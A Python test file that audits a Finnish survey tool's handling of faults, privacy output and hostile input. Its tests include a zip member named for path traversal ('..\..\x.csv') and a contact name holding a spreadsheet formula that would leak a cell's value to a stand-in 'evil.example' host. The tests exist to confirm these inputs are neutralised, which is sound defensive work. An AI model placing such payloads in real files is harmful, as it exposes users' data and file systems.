"""Audit 6: faults, privacy and hostile input (memory of a big message, a failed publish, the
times ``person`` shows, what ``forget`` can still say, zip names, limits as settings, the
LimeSurvey participants file)."""

from __future__ import annotations

import zipfile

import pytest
from ingest_support import DATA, run_ingest


def test_a_zip_member_named_with_windows_backslashes_is_ingested_and_its_name_said(
        engine, workspace, tmp_path):
    archive = tmp_path / "vastaukset.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.write(DATA / "googleforms.csv", "..\\..\\x.csv")
    result = run_ingest([archive], engine=engine, workspace=workspace)
    rows = [(r["file"].replace(f"{tmp_path}/", ""), r["outcome"]) for r in result.rows()]
    assert rows == [("vastaukset.zip » x.csv (sent as '..\\..\\x.csv')", "new"),
                    ("vastaukset.zip » x.csv (sent as '..\\..\\x.csv')", "new")]
    assert not (tmp_path.parent / "x.csv").exists()


# --- 2. A publish that fails or is interrupted leaves the CMS folder as it was too ----------


@pytest.mark.parametrize("fault", ["error", "interrupt"])
def test_a_failed_or_interrupted_publish_leaves_the_cms_markdown_as_it_was(
        cli, workspace, monkeypatch, fault):
    """Pagefind fails (or Ctrl-C) after the card pages went in place: the CMS Markdown is the
    last publish's (a card changed, one withdrawn, one new: none of it shows), and the next
    publish writes it all."""
    from publish_support import tree_digest, two_approved_one_rejected, withdraw_one_add_one

    from yhteistuumin_survey import publish
    from yhteistuumin_survey.errors import SurveyError

    two_approved_one_rejected(workspace)
    cms = workspace.outputs / "cms"
    assert cli("publish").exit_code == 0
    before = tree_digest(cms)
    assert any("kirjastokaveri" in name for name in before)
    withdraw_one_add_one(workspace)  # one card withdrawn, one new

    def fails(*args, **kwargs):  # type: ignore[no-untyped-def]
        if fault == "interrupt":
            raise KeyboardInterrupt
        raise SurveyError("the Pagefind search indexer failed")

    monkeypatch.setattr(publish, "build_search_index", fails)
    stopped = cli("publish")
    assert stopped.exit_code == (130 if fault == "interrupt" else 1), stopped.output
    assert "the site is as it was" in stopped.stderr
    assert tree_digest(cms) == before  # nothing new, nothing gone, nothing aside
    monkeypatch.undo()
    assert cli("publish").exit_code == 0
    after = tree_digest(cms)
    assert any("uusi-kulttuurikerho" in name for name in after)
    assert not any("kirjastokaveri" in name for name in after)
    assert not any(publish.UNDO_FOLDER in name for name in after)


# --- 3. person says every time one way: Finland's, with the zone; JSON keeps ISO -------------


def test_person_says_every_time_in_finlands_time_with_the_zone_and_json_keeps_iso(
        workspace, session, db_url, cli, tmp_path):
    """A received file (UTC in the database) and a review workbook (a file's time) were both
    shown, one as 2026-12-07T01:57:20+00:00, the other as 2026-12-07 03:57: now both as
    Finland's time with the zone said, in the report's language; JSON keeps ISO 8601."""
    import datetime as dt
    import json
    import os
    import re

    from openpyxl import load_workbook
    from sqlalchemy import update
    from test_privacy_exact import FORGOTTEN, KEPT, populate

    from yhteistuumin_survey.db.models import Contact, ReceivedFile

    populate(workspace, session, FORGOTTEN, KEPT)
    moment = dt.datetime(2026, 12, 7, 1, 57, 20, tzinfo=dt.UTC)
    session.exec(update(ReceivedFile).values(received_at=moment))
    session.exec(update(Contact).values(created_at=moment))
    session.commit()
    workbook = workspace.outputs / "review" / "arviointi.xlsx"
    workbook.parent.mkdir(parents=True, exist_ok=True)
    workbook.write_text(FORGOTTEN.email, encoding="utf-8")
    os.utime(workbook, (moment.timestamp(), moment.timestamp()))

    said = {}
    for lang in ("fi", "sv", "en"):
        result = cli("--db", db_url, "person", "--lang", lang, FORGOTTEN.email)
        assert result.exit_code == 0, result.output
        said[lang] = " ".join(result.stdout.split())
        assert "T01:57" not in said[lang] and "+00:00" not in said[lang], \
            re.findall(r".{120}T01:57.{40}", said[lang])
    assert "lisätty: 7.12.2026 klo 3.57 (Suomen aikaa, UTC+2)" in said["fi"]
    assert "tehty arvioijille 7.12.2026 klo 3.57 (Suomen aikaa, UTC+2)" in said["fi"]
    assert "vastaanotettu: 7.12.2026 klo 3.57 (Suomen aikaa, UTC+2)" in said["fi"]
    assert "gjord för granskarna 7.12.2026 kl. 3.57 (finsk tid, UTC+2)" in said["sv"]
    assert "made for the reviewers 2026-12-07 03:57 (Finnish time, UTC+2)" in said["en"]
    assert said["en"].count("2026-12-07 03:57 (Finnish time, UTC+2)") >= 3

    out = tmp_path / "pyyntö.xlsx"
    assert cli("--db", db_url, "person", "--lang", "fi", "--out", str(out),
               FORGOTTEN.email).exit_code == 0
    cells = " ".join(str(cell.value) for sheet in load_workbook(out).worksheets
                     for row in sheet.iter_rows() for cell in row if cell.value is not None)
    assert "T01:57" not in cells and "7.12.2026 klo 3.57 (Suomen aikaa, UTC+2)" in cells

    data = json.loads(cli("--db", db_url, "person", "--format", "json",
                          FORGOTTEN.email).stdout)["sections"]
    assert data["contacts"][0]["added"] == "2026-12-07T01:57:20+00:00"
    assert data["received"][0]["received"] == "2026-12-07T01:57:20+00:00"


# --- 1. a big message is parsed once for the classification and the reading ------------------


def test_fetch_parses_a_big_message_once_for_both_readers_and_holds_a_bounded_peak(
        tmp_path, monkeypatch):
    """A reply carrying an 8 MB questionnaire: fetch's routing (is it a bounce? what does it
    carry?) parsed it whole three times (classify_message, flufl's copy, read_eml), each parse
    holding ~9 times the message; now one parse serves both readers (flufl.bounce keeps its
    own copy with text headers), each parse fed in slices."""
    import os
    import tracemalloc
    from email.message import EmailMessage
    from email.policy import SMTP

    from mail_support import count_whole_parses

    from yhteistuumin_survey.fetch import INGEST, _route

    message = EmailMessage()
    message["From"] = "Anna Virtanen <anna.virtanen@kuhmo.fi>"
    message["To"] = "kysely@kulttuuri.fi"
    message["Subject"] = "Vastaus"
    message["Message-ID"] = "<iso-1@kuhmo.fi>"
    message.set_content("Liitteenä vastauksemme.")
    attached = os.urandom(8 * 1024 * 1024)
    message.add_attachment(attached, maintype="application", subtype="vnd.openxmlformats-"
                           "officedocument.spreadsheetml.sheet", filename="vastaus.xlsx")
    data = message.as_bytes(policy=SMTP)
    path = tmp_path / "1-1.eml"
    path.write_bytes(data)

    whole = count_whole_parses(monkeypatch)
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        status, reason, files = _route(path, data, lambda: None)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (status, files) == (INGEST, ["vastaus.xlsx"]), reason
    assert len(whole) == 2  # ours, shared by both readers, and flufl.bounce's copy
    assert peak < 5 * len(data), f"{peak / len(data):.1f} times the message"



def test_the_headers_of_a_big_message_are_read_from_its_header_block_alone(tmp_path):
    """fetch reads a message's sender, subject, date and Message-ID (twice a message): the
    header parser decoded the whole message into a StringIO first, ~12 times its size (a
    44 MB message made fetch peak at 709 MB; 289 MB now)."""
    import os
    import tracemalloc
    from email.message import EmailMessage
    from email.policy import SMTP

    from yhteistuumin_survey.bounces import _message_time, message_key
    from yhteistuumin_survey.fetch import _headers

    message = EmailMessage()
    message["From"] = "Anna Virtanen <anna.virtanen@kuhmo.fi>"
    message["Subject"] = "=?utf-8?q?Hyv=C3=A4t_k=C3=A4yt=C3=A4nn=C3=B6t?="
    message["Date"] = "Mon, 07 Dec 2026 08:00:00 +0200"
    message["Message-ID"] = "<iso-2@kuhmo.fi>"
    message.set_content("Liitteenä.")
    message.add_attachment(os.urandom(4 * 1024 * 1024), maintype="application",
                           subtype="octet-stream", filename="liite.bin")
    data = message.as_bytes(policy=SMTP)
    tracemalloc.start()
    try:
        tracemalloc.reset_peak()
        head = _headers(data, None)
        when = _message_time(data)
        key = message_key(data)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert (head.sender, head.subject, head.date, head.message_key) == (
        "anna.virtanen@kuhmo.fi", "Hyvät käytännöt", "2026-12-07T06:00:00+00:00",
        "<iso-2@kuhmo.fi>")
    assert (when and when.isoformat(), key) == ("2026-12-07T06:00:00+00:00", "<iso-2@kuhmo.fi>")
    assert peak < len(data) / 4, f"{peak / len(data):.1f} times the message"


# --- 7. the LimeSurvey participants file: no cell that a spreadsheet runs --------------------


def test_limesurvey_participants_leave_out_formula_names_and_refuse_formula_addresses(
        engine, workspace, tmp_path):
    """LimeSurvey imports a participant cell as it is (a ' before it would become part of the
    name), so no ' is put in: a name that a spreadsheet would run is left out (the
    municipality's name stands in) and an address starting so is no participant; each is
    said with the contact list's file and row."""
    import csv

    from sqlmodel import Session

    from yhteistuumin_survey.config import load_settings
    from yhteistuumin_survey.db.models import Contact
    from yhteistuumin_survey.survey import workspace_survey
    from yhteistuumin_survey.webform import build_webform

    with Session(engine) as session:
        session.add(Contact(municipality_code="049", email="kulttuuri@espoo.example.fi",
                            name='=HYPERLINK("http://evil.example/?x="&A1;"Avaa")',
                            source_file="recipients/contacts.csv", source_row=4))
        session.add(Contact(municipality_code="091", email="-kulttuuri@hel.example.fi",
                            name="Maija Meikäläinen", source_file="recipients/contacts.csv",
                            source_row=7))
        session.add(Contact(municipality_code="599", email="kultur@pedersore.example.fi",
                            name="Anna +358"))
        session.add(Contact(municipality_code="853", email="kulttuuri@turku.example.fi",
                            name="Liisa Virtanen"))
        session.commit()
    with Session(engine, expire_on_commit=False) as session:
        result = build_webform(workspace, session=session,
                               settings=load_settings(workspace.root, env={}),
                               survey=workspace_survey(workspace), tool="limesurvey",
                               out=tmp_path / "out")
    with result.files[1].open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert [(r["attribute_1"], r["firstname"], r["lastname"]) for r in rows] == [
        ("049", "Espoo", ""), ("599", "Pedersöre", ""), ("853", "Liisa", "Virtanen")]
    assert result.failed
    assert result.refused == [
        "recipients/contacts.csv:7: Helsinki (091): the address '-kulttuuri@hel.example.fi' "
        "starts with '-', which a spreadsheet opening the participants file runs as a formula; "
        "no participant row written. Correct the address in the contact list, import it with "
        "'yhteistuumin register contacts', and build the web form again"]
    assert result.renamed[0].startswith("recipients/contacts.csv:4: Espoo (049): the contact's "
                                        "name '=HYPERLINK(")
    assert result.renamed[1].startswith("Pedersören kunta (599): the contact's name 'Anna +358'")
    assert [*result.renamed, *result.refused] == [
        line for line in result.summary() if "formula" in line]


def test_a_hidden_file_in_a_zip_is_said_not_read_and_macos_metadata_is_not(
        engine, workspace, tmp_path):
    archive = tmp_path / "vastaukset.zip"
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.write(DATA / "googleforms.csv", "vastaus.csv")
        zipped.write(DATA / "googleforms.csv", "kansio/.piilotettu.csv")
        zipped.writestr(".DS_Store", b"\x00\x00\x00\x01Bud1")
        zipped.writestr("__MACOSX/._vastaus.csv", b"\x00\x05\x16\x07")
    result = run_ingest([archive], engine=engine, workspace=workspace)
    rows = [(r["file"].replace(f"{tmp_path}/", ""), r["outcome"], r["reason"]) for r in
            result.rows()]
    assert [(f, o) for f, o, _ in rows] == [
        ("vastaukset.zip » piilotettu.csv", "note"),
        ("vastaukset.zip » vastaus.csv", "new"), ("vastaukset.zip » vastaus.csv", "new")]
    assert rows[0][2].endswith("vastaukset.zip: 'kansio/.piilotettu.csv' is a hidden file in "
                               "the archive (its name starts with a dot); not read. If it "
                               "holds an answer, rename it without the dot and ingest it")
